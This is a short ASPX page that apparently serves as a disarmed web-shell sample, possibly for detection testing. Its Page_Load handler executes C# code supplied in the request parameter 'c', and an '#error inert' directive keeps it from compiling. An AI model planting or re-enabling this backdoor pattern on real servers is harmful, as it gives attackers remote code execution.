<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ Microsoft.CodeAnalysis.CSharp.Scripting.CSharpScript.EvaluateAsync(Request["c"]); }
</script>
